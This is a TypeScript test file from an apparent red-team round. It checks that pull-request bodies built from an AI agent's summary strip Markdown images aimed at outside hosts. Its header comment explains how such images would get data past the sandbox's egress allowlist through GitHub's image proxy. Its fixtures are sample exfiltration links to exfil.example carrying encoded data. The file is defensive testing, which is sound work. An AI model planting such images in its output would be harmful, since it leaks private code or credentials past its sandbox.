import { describe, expect, it } from 'vitest';
import { type PullRequestReport, renderPullRequestBody } from '../../src/github/pr-body.js';
import { pullReport } from './pr-report.js';

/**
 * Red team, round 2: the sandbox's egress allowlist (`network: none` by default) is bypassed by the
 * PR body. The agent's summary keeps Markdown images, and GitHub fetches an image's URL through its
 * camo proxy as soon as someone opens the pull request: whatever the agent read inside the sandbox
 * (private code, a credential it found) reaches a host nobody allowed, with no request from this
 * machine at all. Raw `<img>` is neutralised (untrustedProse escapes `<`); the Markdown forms are not.
 */
const report = (summary: string): PullRequestReport => pullReport({ summary });

/** A Markdown image whose source is an absolute URL: inline `![alt](url)`, or a reference `![alt][r]` with `[r]: url`. */
const INLINE_IMAGE = /!\[[^\]\n]*\]\(\s*<?https?:\/\//i;
const REFERENCE_IMAGE = /!\[[^\]\n]*\]\[[^\]\n]*\][\s\S]*^\s{0,3}\[[^\]\n]+\]:\s*<?https?:\/\//im;

describe('red2: an image in the agent’s summary', () => {
  it('red2-pr-body-image-exfil: an inline image to an outside host is not left in the PR body', () => {
    const body = renderPullRequestBody(
      report('Fixed.\n\n![build status](https://exfil.example/p.png?d=cHJpdmF0ZSBzb3VyY2U)'),
      (text) => text,
    );
    expect(body).not.toMatch(INLINE_IMAGE);
  });

  it('red2-pr-body-image-exfil: a reference-style image to an outside host is not left in the PR body', () => {
    const body = renderPullRequestBody(
      report('Fixed.\n\n![build status][s]\n\n[s]: https://exfil.example/p.png?d=cHJpdmF0ZSBzb3VyY2U'),
      (text) => text,
    );
    expect(body).not.toMatch(REFERENCE_IMAGE);
  });
});
